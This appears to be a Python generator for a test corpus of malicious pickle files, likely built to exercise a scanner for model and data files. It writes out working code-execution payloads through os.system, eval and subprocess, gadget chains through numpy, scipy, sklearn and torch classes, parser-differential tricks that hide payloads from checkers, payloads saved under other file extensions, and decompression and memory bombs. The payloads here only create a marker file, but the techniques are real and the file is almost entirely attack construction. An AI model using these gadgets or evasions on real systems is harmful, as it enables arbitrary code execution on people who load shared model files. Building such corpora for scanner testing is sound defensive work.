"""Bare pickles. Each would run something, means two things to two unpicklers, is broken behind its payload, or claims too much."""
import gzip
import pickle
import struct

from opcodes import *

RUN = name("posix", "system")
NOTE = text(MARKER)


def calls():
    yield "pickle-reduce-os-system.pkl", PROTO2 + payload() + STOP
    yield "pickle-reduce-eval.pkl", PROTO2 + call(name("builtins", "eval"), text("__import__('os').mkdir('hullmark-was-here')")) + STOP
    yield "pickle-reduce-exec-python2.pkl", call(name("__builtin__", "execfile"), text("hullmark-was-here")) + STOP
    yield "pickle-python2-commands.pkl", call(name("commands", "getoutput"), NOTE) + STOP
    yield "pickle-inst-os-system.pkl", MARK + NOTE + b"ios\nsystem\n" + STOP
    yield "pickle-obj-os-system.pkl", MARK + name("os", "system") + NOTE + b"o" + STOP
    yield "pickle-newobj-popen.pkl", PROTO2 + name("subprocess", "Popen") + items(NOTE, integer(0), NONE) + NEWOBJ + STOP
    yield "pickle-newobj-ex-popen.pkl", PROTO4 + name("subprocess", "Popen") + items(NOTE) + dictionary(shell=TRUE) + NEWOBJ_EX + STOP
    yield "pickle-call-then-pop.pkl", PROTO2 + payload() + POP + EMPTY_DICT + STOP
    yield "pickle-obj-then-pop.pkl", MARK + name("os", "system") + NOTE + b"o" + POP + NONE + STOP
    yield "pickle-inst-then-pop.pkl", MARK + NOTE + b"ios\nsystem\n" + POP + NONE + STOP
    yield "pickle-newobj-then-pop.pkl", PROTO2 + name("numpy", "memmap") + items(text("hullmark-was-here"), text("u1"), text("w+"), integer(0), items(integer(4))) + NEWOBJ + POP + NONE + STOP
    yield "pickle-call-then-pop-mark.pkl", PROTO2 + NONE + MARK + payload() + POP_MARK + STOP
    yield "pickle-call-under-stop.pkl", PROTO2 + payload() + NONE + STOP
    yield "pickle-call-memoized.pkl", PROTO2 + payload() + put(0) + POP + NONE + STOP
    yield "pickle-call-in-dict-key.pkl", PROTO2 + EMPTY_DICT + payload() + integer(1) + SETITEM + STOP
    yield "pickle-import-only.pkl", PROTO2 + name("antigravity", "__name__") + STOP
    yield "pickle-extension-code.pkl", PROTO2 + b"\x82\x01" + items(NOTE) + REDUCE + STOP
    yield "pickle-persistent-id.pkl", PROTO2 + text("../hullmark-was-here") + BINPERSID + STOP
    yield "pickle-user-class.pkl", PROTO2 + name("__main__", "Net") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD + STOP


def names_built_on_the_way():
    system = short_text("system")
    posix = short_text("posix")
    end = STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-stack-global-from-memo.pkl", PROTO4 + posix + MEMOIZE + POP + system + MEMOIZE + POP + get(0) + get(1) + end
    yield "pickle-stack-global-from-text-memo.pkl", PROTO4 + posix + b"p7\n" + POP + system + b"p8\n" + POP + b"g7\ng8\n" + end
    yield "pickle-stack-global-from-long-binget.pkl", PROTO4 + posix + b"r\x00\x01\x00\x00" + POP + system + b"r\x01\x01\x00\x00" + POP + b"j\x00\x01\x00\x00j\x01\x01\x00\x00" + end
    yield "pickle-stack-global-memo-overwritten.pkl", PROTO4 + short_text("collections") + put(0) + POP + posix + put(0) + POP + short_text("OrderedDict") + put(1) + POP + system + put(1) + POP + get(0) + get(1) + end
    yield "pickle-stack-global-pop-between.pkl", PROTO4 + posix + short_text("x") + POP + system + MARK + short_text("OrderedDict") + POP_MARK + end
    yield "pickle-stack-global-dup.pkl", PROTO4 + short_text("antigravity") + DUP + STACK_GLOBAL + STOP
    yield "pickle-stack-global-computed.pkl", PROTO4 + call(name("builtins", "str"), short_text("posix")) + system + end
    yield "pickle-stack-global-added.pkl", PROTO4 + call(name("_operator", "add"), short_text("po"), short_text("six")) + system + end
    yield "pickle-stack-global-joined.pkl", PROTO4 + short_text("posix") + call(name("_codecs", "decode"), blob(b"flfgrz"), text("rot13")) + end
    yield "pickle-stack-global-from-dict.pkl", PROTO4 + posix + call(name("_operator", "getitem"), dictionary(a=system), short_text("a")) + end
    yield "pickle-stack-global-nested-name.pkl", PROTO4 + short_text("collections") + short_text("abc.sys.modules") + STACK_GLOBAL + STOP
    yield "pickle-dotted-name-random.pkl", PROTO4 + call(name("random", "_os.system"), NOTE) + STOP
    yield "pickle-dotted-name-pathlib.pkl", PROTO4 + call(name("pathlib", "os.mkdir"), text("hullmark-was-here")) + STOP
    yield "pickle-name-with-nul.pkl", PROTO2 + name("collections\0", "OrderedDict") + EMPTY_TUPLE + REDUCE + STOP
    yield "pickle-name-with-crlf.pkl", b"ccollections\r\nOrderedDict\r\n)R."


def relays():
    """Names on the list of harmless ones, used so that they call what is not."""
    yield "pickle-relay-map.pkl", PROTO2 + call(name("builtins", "list"), call(name("builtins", "map"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
    yield "pickle-relay-partial.pkl", PROTO2 + call(call(name("functools", "partial"), RUN, NOTE)) + STOP
    keyword_tuple = call(name("builtins", "getattr"), name("scipy.stats._stats_py", "LinregressResult"), text("__new__"))
    yield "pickle-relay-partial-for-a-tuple.pkl", PROTO2 + call(call(name("functools", "partial"), keyword_tuple) + items(RUN, items(NOTE), EMPTY_DICT, NONE) + BUILD) + STOP
    yield "pickle-relay-chain-of-map.pkl", PROTO4 + call(name("itertools", "chain")) + items(call(name("builtins", "iter"), items(call(name("builtins", "map"), RUN, EMPTY_LIST + NOTE + APPEND)))) + BUILD + EMPTY_LIST + MARK + NONE + b"e" + STOP
    yield "pickle-relay-methodcaller.pkl", PROTO4 + call(call(name("operator", "methodcaller"), text("tofile"), text("hullmark-was-here")), call(name("numpy", "ones"), integer(3))) + STOP
    yield "pickle-relay-attrgetter-globals.pkl", PROTO4 + call(call(name("operator", "itemgetter"), text("eval")), call(call(name("operator", "attrgetter"), text("__globals__")), name("torch._utils", "_rebuild_tensor"))) + STOP
    yield "pickle-relay-memmap-made.pkl", PROTO4 + call(name("numpy", "memmap"), text("hullmark-was-here"), text("u1"), text("w+"), integer(0), items(integer(4))) + STOP
    yield "pickle-relay-iter-of-function.pkl", PROTO4 + call(name("builtins", "list"), call(name("builtins", "iter"), call(name("functools", "partial"), RUN, NOTE), integer(0))) + STOP
    yield "pickle-relay-reduce.pkl", PROTO2 + call(name("_functools", "reduce"), name("builtins", "eval"), items(EMPTY_DICT), text("__import__('os').mkdir('hullmark-was-here')")) + STOP
    yield "pickle-relay-defaultdict-factory.pkl", PROTO2 + call(name("collections", "defaultdict"), RUN) + STOP
    yield "pickle-relay-type-v2.pkl", PROTO2 + call(name("torch._tensor", "_rebuild_from_type_v2"), RUN, name("torch", "Tensor"), items(NOTE), NONE) + STOP
    yield "pickle-relay-ordered-dict-reduce.pkl", PROTO2 + call(name("collections", "OrderedDict"), RUN) + STOP
    yield "pickle-relay-build-setstate.pkl", PROTO2 + name("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + dictionary(__setstate__=RUN) + BUILD + NOTE + BUILD + STOP
    yield "pickle-relay-namespace-append.pkl", PROTO2 + name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-namespace-extend.pkl", PROTO2 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(extend=name("subprocess", "call")) + BUILD + MARK + text("touch") + text("hullmark-was-here") + APPENDS + STOP
    yield "pickle-relay-set-add.pkl", PROTO4 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + dictionary(add=RUN) + BUILD + MARK + NOTE + b"\x90" + STOP
    yield "pickle-relay-reconstructor.pkl", PROTO2 + call(name("copyreg", "_reconstructor"), name("sqlite3", "Connection"), name("sqlite3", "Connection"), text("hullmark-was-here")) + STOP
    yield "pickle-relay-numpy-reconstruct.pkl", PROTO2 + call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "memmap"), items(integer(0)), blob(b"b")) + STOP
    memmap = items(text("hullmark-was-here"), text("u1"), text("w+"), integer(0), items(integer(4)))
    yield "pickle-relay-newobj-memmap.pkl", PROTO2 + name("numpy", "memmap") + memmap + NEWOBJ + STOP
    yield "pickle-relay-newobj-ex-memmap.pkl", PROTO4 + name("numpy", "memmap") + memmap + EMPTY_DICT + NEWOBJ_EX + STOP
    yield "pickle-relay-obj-connection.pkl", MARK + name("sqlite3", "Connection") + text("hullmark-was-here") + b"o" + STOP
    yield "pickle-relay-numpy-dtype.pkl", PROTO2 + call(name("numpy", "dtype"), RUN) + STOP
    yield "pickle-relay-user-string.pkl", PROTO2 + name("collections", "UserString") + text("x") + TUPLE1 + NEWOBJ + dictionary(__setstate__=RUN) + BUILD + NOTE + BUILD + STOP
    yield "pickle-relay-namespace-slots.pkl", PROTO2 + name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + NONE + dictionary(append=RUN) + TUPLE2 + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-linear-operator.pkl", PROTO2 + name("scipy.sparse.linalg._interface", "LinearOperator") + EMPTY_TUPLE + NEWOBJ + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-hull-close.pkl", PROTO2 + name("scipy.spatial._qhull", "Delaunay") + EMPTY_TUPLE + NEWOBJ + dictionary(_qhull=name("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE + dictionary(close=call(name("functools", "partial"), RUN, NOTE)) + BUILD) + BUILD + POP + NONE + STOP
    yield "pickle-relay-piecewise-slots.pkl", PROTO2 + name("scipy.interpolate._interpolate", "PPoly") + EMPTY_TUPLE + NEWOBJ + dictionary(append=RUN) + NONE + TUPLE2 + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-polynomial.pkl", PROTO2 + name("numpy.polynomial.polynomial", "Polynomial") + EMPTY_TUPLE + NEWOBJ + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-loader.pkl", PROTO2 + name("torch.utils.data.dataloader", "DataLoader") + EMPTY_TUPLE + NEWOBJ + dictionary(append=RUN) + BUILD + NOTE + APPEND + STOP
    yield "pickle-relay-script-object.pkl", PROTO2 + name("torch", "ScriptObject") + EMPTY_TUPLE + NEWOBJ + items(items(NOTE), text("__torch__.torch.classes.c10d.FileStore")) + BUILD + STOP
    yield "pickle-relay-attribute-of-module.pkl", PROTO2 + call(call(name("operator", "attrgetter"), text("os.system")), name("pathlib", "Path")) + STOP
    yield "pickle-relay-codecs.pkl", PROTO2 + call(name("_codecs", "encode"), text("x"), text("zlib")) + STOP
    yield "pickle-relay-name-as-value.pkl", PROTO2 + EMPTY_LIST + name("builtins", "set") + APPEND + STOP


def instance(module, attribute, **attributes):
    return name(module, attribute) + EMPTY_TUPLE + NEWOBJ + dictionary(**attributes) + BUILD


def partial(function, *arguments, **keywords):
    return call(name("functools", "partial"), function) + items(function, items(*arguments), dictionary(**keywords), NONE) + BUILD


def items_of_list(*values):
    return EMPTY_LIST + MARK + b"".join(values) + APPENDS


def loader(item, function):
    """A loader that gives the item to the function as soon as it is iterated."""
    zero = integer(0)
    return instance("torch.utils.data.dataloader", "DataLoader", dataset=items_of_list(item), collate_fn=function, num_workers=zero, sampler=items_of_list(zero), batch_sampler=items_of_list(items_of_list(zero)), batch_size=integer(1), _dataset_kind=zero, pin_memory=FALSE, timeout=zero, generator=NONE, persistent_workers=FALSE, prefetch_factor=NONE, drop_last=FALSE, pin_memory_device=text(""), in_order=TRUE, _DataLoader__initialized=TRUE, _DataLoader__multiprocessing_context=NONE, _IterableDataset_len_called=NONE, _iterator=NONE)


def optimiser(get, parameter):
    """Adam, which asks its state for each parameter as it is loaded: get(parameter, [])."""
    state = instance("argparse", "Namespace", get=get)
    return instance("torch.optim.adam", "Adam", defaults=EMPTY_DICT, state=state, param_groups=items_of_list(dictionary(params=items_of_list(parameter))))


def methods_called_on_loading():
    """Classes that are harmless by themselves, one of which calls a method of an attribute as it is loaded, and others that pass it on."""
    hooks = {word: EMPTY_DICT for word in ("_backward_hooks", "_backward_pre_hooks", "_forward_hooks", "_forward_pre_hooks", "_parameters", "_buffers")}
    read = lambda kind, path: call(name("operator", kind), text(path))
    steps = dictionary(**{"0": read("attrgetter", "__init__.__globals__"), "1": read("itemgetter", "__builtins__"), "2": read("itemgetter", "eval")})
    walk = instance("torch.nn.modules.container", "Sequential", _modules=steps, **hooks)
    largest = name("builtins", "max")
    wrapper = lambda function, **made: instance("torch.ao.quantization.observer", "_PartialWrapper", p=function, callable_args=dictionary(**made))
    evaluate = wrapper(largest, key=wrapper(walk, input=partial(largest, items_of_list(instance("argparse", "Namespace")))))
    yield "pickle-method-optimiser-evaluates.pkl", PROTO2 + optimiser(evaluate, text("__import__('os').mkdir('hullmark-was-here')")) + STOP

    numbers = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), items(integer(0)), blob(b"b"))
    numbers += items(integer(1), items(integer(1)), call(name("numpy", "dtype"), text("f8"), FALSE, TRUE) + items(integer(3), text("<"), NONE, NONE, NONE, integer(-1), integer(-1), integer(0)) + BUILD, FALSE, blob(b"hullmark")) + BUILD
    stack = instance("sklearn.ensemble._stacking", "StackingRegressor", estimators_=items_of_list(numbers), stack_method_=items_of_list(text("tofile")), final_estimator_=instance("sklearn.linear_model._base", "LinearRegression", a=NONE), final_estimator=NONE, passthrough=FALSE, estimators=NONE)
    scorer = instance("sklearn.metrics._scorer", "_Scorer", _score_func=name("sklearn.metrics._regression", "r2_score"), _sign=integer(1), _kwargs=EMPTY_DICT, _response_method=text("predict"))
    score = instance("scipy.optimize._lsq.least_squares", "_WrapArgsKwargs", f=scorer, args=items(text("hullmark-was-here"), items_of_list(integer(1))), kwargs=EMPTY_DICT)
    write = partial(largest, key=score)
    yield "pickle-method-optimiser-writes.pkl", PROTO2 + optimiser(write, stack) + STOP
    yield "pickle-method-handle.pkl", PROTO2 + name("torch.utils.hooks", "RemovableHandle") + EMPTY_TUPLE + NEWOBJ + items(NONE, integer(1), loader(stack, write)) + BUILD + STOP
    yield "pickle-method-ordered-dict.pkl", PROTO2 + call(name("collections", "OrderedDict"), items_of_list(loader(stack, write))) + STOP
    yield "pickle-method-recurrent.pkl", PROTO2 + instance("torch.nn.modules.rnn", "LSTM", _modules=EMPTY_DICT, _all_weights=items_of_list(items_of_list(text("w"))), _flat_weights=loader(stack, write), **hooks) + STOP
    first = partial(largest, stack, key=score)
    at_once = partial(largest, items_of_list(stack), key=score)
    yield "pickle-method-patch-step.pkl", PROTO2 + instance("torch.optim.sgd", "SGD", _patch_step_function=at_once) + STOP
    yield "pickle-method-attach.pkl", PROTO2 + instance("scipy.stats._continuous_distns", "norm_gen", _attach_methods=at_once) + STOP
    yield "pickle-method-build.pkl", PROTO2 + instance("sklearn.isotonic", "IsotonicRegression", X_thresholds_=NONE, y_thresholds_=NONE, _build_f=first) + STOP
    yield "pickle-method-as-type.pkl", PROTO2 + instance("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor", nodes=instance("argparse", "Namespace", dtype=NONE, astype=partial(largest, stack, key=score))) + STOP
    yield "pickle-method-close.pkl", PROTO2 + instance("scipy.spatial._qhull", "Delaunay", close=at_once) + POP + NONE + STOP
    yield "pickle-method-operator.pkl", PROTO2 + instance("sklearn.linear_model._base", "LinearRegression", _sklearn_version=instance("scipy.sparse._csr", "csr_matrix", _comparison=first)) + STOP
    yield "pickle-method-register-buffer.pkl", PROTO2 + instance("torch.nn.modules.activation", "Softmax", _modules=EMPTY_DICT, register_buffer=first, **{**hooks, "_buffers": dictionary(_is_full_backward_hook=NONE)}) + STOP
    parameters = instance("torch.nn.modules.container", "Sequential", _modules=instance("argparse", "Namespace", values=at_once))
    yield "pickle-method-contains.pkl", PROTO2 + instance("torch.nn.modules.linear", "Linear", _modules=EMPTY_DICT, **{**hooks, "_parameters": parameters}) + STOP
    compared = instance("scipy.sparse._csr", "csr_matrix", _comparison=first)
    yield "pickle-method-missing-text.pkl", PROTO2 + call(name("numpy._core._internal", "_convert_to_stringdtype_kwargs"), FALSE, compared) + STOP
    listed = instance("scipy.sparse._csc", "csc_matrix", tocsr=at_once)
    yield "pickle-method-unpacked.pkl", PROTO2 + name("scipy.interpolate._rbfinterp", "RBFInterpolator") + EMPTY_TUPLE + NEWOBJ + items(listed, NONE) + BUILD + STOP
    factor = instance("scipy.sparse.linalg._interface", "LinearOperator", dot=first)
    array = instance("scipy.optimize._nonlin", "LowRankMatrix", alpha=factor, n=integer(1), dtype=name("numpy", "float64"), cs=EMPTY_LIST, ds=EMPTY_LIST, collapsed=NONE)
    yield "pickle-method-rotation.pkl", PROTO2 + name("scipy.spatial.transform._rotation", "Rotation") + EMPTY_TUPLE + NEWOBJ + items(array, TRUE) + BUILD + STOP
    slots = name("scipy.interpolate._interpolate", "interp1d") + EMPTY_TUPLE + NEWOBJ + items(NONE, dictionary(__dict__=dictionary(append=largest))) + BUILD
    yield "pickle-method-slots.pkl", PROTO2 + slots + STOP


def broken_behind_the_payload():
    start = PROTO2 + payload()
    yield "pickle-broken-no-stop.pkl", start
    yield "pickle-broken-bad-opcode.pkl", start + b"\xff\xff" + STOP
    yield "pickle-broken-bad-integer.pkl", start + b"Ififty\n" + STOP
    yield "pickle-broken-bad-float.pkl", start + b"F1.0.0\n" + STOP
    yield "pickle-broken-bad-utf8.pkl", start + b"X\x02\x00\x00\x00\xff\xfe" + STOP
    yield "pickle-broken-missing-memo.pkl", start + get(77) + STOP
    yield "pickle-broken-stack-underflow.pkl", start + POP * 3 + STOP
    yield "pickle-broken-stack-not-empty.pkl", start + integer(1) + integer(2) + STOP
    yield "pickle-broken-protocol-99.pkl", b"\x80\x63" + payload() + STOP
    yield "pickle-broken-cut-in-argument.pkl", start + b"B\xff\x00\x00\x00short"


def differentials():
    """Bytes that Python's two unpicklers, or a checker and an unpickler, read differently."""
    yield "pickle-int-hex.pkl", b"I0x10\n."
    yield "pickle-int-binary.pkl", b"I0b11\n."
    yield "pickle-int-spaces.pkl", b"I 10 \n."
    yield "pickle-int-underscores.pkl", b"I1_0\n."
    yield "pickle-float-spaces.pkl", b"F 1.0\n."
    yield "pickle-float-underscores.pkl", b"F1_0\n."
    yield "pickle-long-without-l.pkl", b"L10\n."
    yield "pickle-memo-key-leading-zero.pkl", b"I1\np00\n0g0\n."
    yield "pickle-memo-key-plus.pkl", b"I1\np+7\n0g7\n."
    yield "pickle-binstring-negative.pkl", b"T\xff\xff\xff\xff" + payload() + STOP
    hidden = payload() + STOP
    straddling = b"C" + bytes([len(hidden) + 8]) + b"1234"
    yield "pickle-frame-straddling.pkl", PROTO4 + frame(straddling) + b"5678" + hidden + STOP
    yield "pickle-frame-huge.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 30) + b"K\x01."
    yield "pickle-frame-2-63.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 63) + b"K\x01."
    yield "pickle-frame-in-frame.pkl", PROTO4 + frame(b"\x95" + struct.pack("<Q", 2) + b"K\x01") + STOP
    yield "pickle-protocol-in-the-middle.pkl", PROTO2 + b"K\x01" + b"\x80\x05" + STOP
    yield "pickle-long1-padded.pkl", PROTO2 + b"\x8a\x04\x01\x00\x00\x00" + STOP


def differentials_that_run():
    """The same, with something that runs under one of the two."""
    yield "pickle-differs-int-hex.pkl", b"I0x10\n0" + payload() + STOP
    yield "pickle-differs-int-binary.pkl", b"I0b11\n0" + payload() + STOP
    yield "pickle-differs-int-octal.pkl", b"I0o17\n0" + payload() + STOP
    yield "pickle-differs-int-spaces.pkl", b"I 10 \n0" + payload() + STOP
    yield "pickle-differs-float-spaces.pkl", b"F 1.0\n0" + payload() + STOP
    yield "pickle-differs-float-underscore.pkl", b"F1_0\n0" + payload() + STOP
    yield "pickle-differs-float-infinity.pkl", b"Finfinity\n0" + payload() + STOP
    yield "pickle-differs-float-nan.pkl", b"Fnan\n0" + payload() + STOP
    yield "pickle-differs-long-hex.pkl", b"L0x10L\n0" + payload() + STOP
    yield "pickle-differs-unicode-digits.pkl", b"I\xd9\xa1\n0" + payload() + STOP
    yield "pickle-differs-memo-key-leading-zero.pkl", b"Vposix\np00\n0Vsystem\np01\n0g0\ng1\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-memo-key-plus.pkl", b"Vposix\np+7\n0Vsystem\np1_0\n0g7\ng10\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-memo-key-spaces.pkl", b"Vposix\np 7 \n0Vsystem\np8\n0g7\ng8\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-memo-key-negative.pkl", b"Vposix\np-1\n0g-1\nVsystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-memo-key-2-63.pkl", b"Vposix\np9223372036854775808\ng9223372036854775808\n0Vsystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-frame-of-1-gib.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 30) + payload() + STOP
    yield "pickle-differs-frame-too-short.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 3) + payload() + STOP
    yield "pickle-differs-frame-in-frame.pkl", PROTO4 + frame(frame(payload()) + STOP)
    yield "pickle-differs-frame-of-nothing.pkl", PROTO4 + frame(b"") + payload() + STOP
    yield "pickle-differs-binstring-negative.pkl", b"T\xfb\xff\xff\xff" + payload() + STOP
    yield "pickle-differs-binunicode-2-31.pkl", b"X\x00\x00\x00\x80" + payload() + STOP
    yield "pickle-differs-string-without-quotes.pkl", b"Sposix\n0" + payload() + STOP
    yield "pickle-differs-string-two-quotes.pkl", b"S'posix\"\n0" + payload() + STOP
    yield "pickle-differs-string-trailing-space.pkl", b"S'posix' \n0" + payload() + STOP
    yield "pickle-differs-string-quote-inside.pkl", b"S'a'b'\n0" + payload() + STOP
    yield "pickle-differs-protocol-6.pkl", b"\x80\x06" + payload() + STOP
    yield "pickle-differs-protocol-twice.pkl", PROTO2 + b"\x80\x05" + payload() + STOP
    yield "pickle-differs-persistent-id.pkl", b"Psome\n0" + payload() + STOP
    yield "pickle-differs-pop-on-mark.pkl", PROTO2 + MARK + POP + payload() + STOP
    yield "pickle-differs-pop-mark-without.pkl", PROTO2 + integer(1) + payload() + POP_MARK + STOP
    yield "pickle-differs-setitems-odd.pkl", PROTO2 + EMPTY_DICT + MARK + payload() + SETITEMS + STOP
    yield "pickle-differs-dict-odd.pkl", PROTO2 + MARK + payload() + b"d" + STOP
    yield "pickle-differs-extension-2-31.pkl", PROTO2 + payload() + POP + b"\x84\xff\xff\xff\xff" + STOP
    yield "pickle-differs-empty-line-as-int.pkl", b"I\n0" + payload() + STOP
    yield "pickle-differs-carriage-return.pkl", b"cposix\r\nsystem\r\n(S'touch hullmark-was-here'\r\ntR."
    yield "pickle-differs-nul-in-module.pkl", PROTO2 + call(name("posix\0", "system"), NOTE) + STOP
    yield "pickle-differs-space-in-module.pkl", PROTO2 + call(name("posix ", "system"), NOTE) + STOP
    yield "pickle-differs-unicode-module.pkl", PROTO2 + call(name("p\u00f6six", "system"), NOTE) + STOP
    yield "pickle-differs-compatibility-letters.pkl", PROTO4 + call(stack_name("posix", "\uff53ystem"), NOTE) + STOP
    yield "pickle-differs-name-by-escapes.pkl", b"V\\u0070osix\nV\\u0073ystem\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-name-by-string.pkl", b"S'\\x70osix'\nS'\\163ystem'\n" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-name-by-short-binstring.pkl", b"U\x05posixU\x06system" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-name-is-bytes.pkl", PROTO4 + b"C\x05posixC\x06system" + STACK_GLOBAL + items(NOTE) + REDUCE + STOP
    yield "pickle-differs-name-empty-parts.pkl", PROTO4 + call(stack_name("posix", "..system"), NOTE) + STOP
    yield "pickle-differs-dotted-below-protocol-4.pkl", PROTO2 + call(name("os", "path.os.system"), NOTE) + STOP


def names_of_python_2():
    """Below protocol 3 these names lead to living functions. Source: CPython Lib/_compat_pickle.py."""
    code = "__import__('os').mkdir('hullmark-was-here')"
    for word, module, attribute, arguments in (
        ("builtin-eval", "__builtin__", "eval", (code,)),
        ("builtin-reduce", "__builtin__", "reduce", (Made(name("__builtin__", "eval")), [{}], code)),
        ("builtin-intern", "__builtin__", "intern", ("x",)),
        ("commands-getoutput", "commands", "getoutput", ("touch hullmark-was-here",)),
        ("commands-getstatusoutput", "commands", "getstatusoutput", ("touch hullmark-was-here",)),
        ("thread-start", "thread", "start_new_thread", (Made(RUN), ("touch hullmark-was-here",))),
        ("anydbm", "anydbm", "open", ("hullmark-was-here", "c")),
        ("dumbdbm", "dumbdbm", "open", ("hullmark-was-here", "c")),
        ("cpickle", "cPickle", "loads", (PROTO2 + payload() + STOP,)),
        ("urllib", "urllib", "urlretrieve", ("file:///etc/hostname", "hullmark-was-here")),
        ("copy-reg", "copy_reg", "_reconstructor", (Made(name("sqlite3", "Connection")), Made(name("sqlite3", "Connection")), "hullmark-was-here")),
        ("subprocess", "subprocess", "Popen", (["touch", "hullmark-was-here"],)),
    ):
        yield f"pickle-python2-{word}.pkl", call(name(module, attribute), *map(constant, arguments)) + STOP
    yield "pickle-python2-imap.pkl", call(name("__builtin__", "list"), call(name("itertools", "imap"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
    yield "pickle-python2-ifilter.pkl", call(name("__builtin__", "list"), call(name("itertools", "ifilter"), RUN, EMPTY_LIST + NOTE + APPEND)) + STOP
    yield "pickle-python2-name-at-protocol-4.pkl", PROTO4 + call(name("commands", "getoutput"), NOTE) + STOP


def several_streams():
    harmless = pickle.dumps({"lr": 0.1}, protocol=2)
    attack = PROTO2 + payload() + STOP
    yield "pickle-second-stream.pkl", harmless + attack
    yield "pickle-second-stream-after-junk.pkl", harmless + b"\0" * 32 + attack
    yield "pickle-trailing-bytes.pkl", harmless + b"trailing"
    nested = call(name("_pickle", "loads"), blob(attack))
    yield "pickle-nested-loads.pkl", PROTO2 + nested + STOP
    yield "pickle-nested-torch-bytes.pkl", PROTO2 + call(name("torch.storage", "_load_from_bytes"), blob(attack)) + STOP


def disguises():
    attack = PROTO2 + payload() + STOP
    for ending in (".safetensors", ".onnx", ".npy", ".npz", ".txt", ".json", ".PKL", ".h5", ".keras", ".tflite", ".gguf", ".md", ".csv", ".png", ".bin", ".ckpt", ".PT", ".pkl.bak", ".yaml", ".jinja", ".model", ".sav", ".dat", ".mlmodel", ".zip", ".tar", ".gz", ".py", ".so", ".pth.tar", ".pt2", ".joblib", ".log", ""):
        yield f"pickle-called{ending}" if ending else "pickle-called-nothing", attack
    yield "pickle-called-README.md", b"Version 1 of the model\n0cposix\nsystem\n(S'touch ${TMPDIR:-/tmp}/hullmark-was-here'\ntR.\n# A model\nIt does nothing.\n"
    yield "pickle-looks-like-text.txt", b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR.\nand more text\n"


def expansion():
    doubling = PROTO2 + EMPTY_LIST + put(0) + POP
    for level in range(60):
        doubling += EMPTY_LIST + MARK + get(level) + get(level) + APPENDS + put(level + 1) + (POP if level < 59 else b"")
    yield "pickle-billion-laughs.pkl", doubling + STOP
    tuples = PROTO2 + EMPTY_TUPLE + (put(0) + get(0) + TUPLE2) * 200 + STOP
    yield "pickle-billion-laughs-tuples.pkl", tuples
    yield "pickle-nested-lists.pkl", EMPTY_LIST * 1200 + APPEND * 1199 + STOP
    yield "pickle-nested-tuples.pkl", PROTO2 + EMPTY_TUPLE + TUPLE1 * 1500 + STOP
    yield "pickle-nested-tuples-2-million.pkl.gz", gzip.compress(PROTO2 + EMPTY_TUPLE + TUPLE1 * 2_000_000 + STOP, 9, mtime=0)
    yield "pickle-marks-2-million.pkl.gz", gzip.compress(PROTO2 + MARK * 2_000_000, 9, mtime=0)
    yield "pickle-memo-2-million.pkl.gz", gzip.compress(PROTO4 + EMPTY_LIST + MEMOIZE * 2_000_000 + STOP, 9, mtime=0)
    yield "pickle-calls-20-thousand.pkl.gz", gzip.compress(PROTO2 + (payload() + POP) * 20_000 + NONE + STOP, 9, mtime=0)
    yield "pickle-list-in-itself.pkl", PROTO2 + EMPTY_LIST + put(0) + get(0) + APPEND + STOP
    yield "pickle-dict-in-itself.pkl", PROTO2 + EMPTY_DICT + put(0) + text("self") + get(0) + SETITEM + STOP
    yield "pickle-marks-only.pkl", PROTO2 + MARK * 1500
    yield "pickle-bytes-of-1-tb.pkl", PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"short" + STOP
    yield "pickle-text-of-2-63.pkl", PROTO4 + b"\x8d" + struct.pack("<Q", 1 << 63) + b"short" + STOP
    yield "pickle-bytearray-of-2-64.pkl", b"\x80\x05\x96" + b"\xff" * 8 + b"short" + STOP
    yield "pickle-long4-of-2-gb.pkl", PROTO2 + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01" + STOP
    yield "pickle-long4-negative.pkl", PROTO2 + b"\x8b" + struct.pack("<i", -1) + b"\x01" + STOP
    yield "pickle-memo-key-2-31.pkl", PROTO2 + EMPTY_DICT + b"r\xff\xff\xff\x7f" + STOP
    yield "pickle-integer-of-4000-digits.pkl", b"I" + b"9" * 4000 + b"\n" + STOP
    yield "pickle-out-of-band-buffer.pkl", b"\x80\x05\x97" + STOP
    yield "pickle-unhashable-key.pkl", PROTO2 + EMPTY_DICT + EMPTY_LIST + integer(1) + SETITEM + STOP
    yield "pickle-control-characters.pkl", PROTO2 + text("\x1b[2J\x1b]0;owned\x07\r\n\u202e") + STOP
    yield "pickle-lone-surrogate.pkl", PROTO2 + b"X\x03\x00\x00\x00\xed\xa0\x80" + STOP
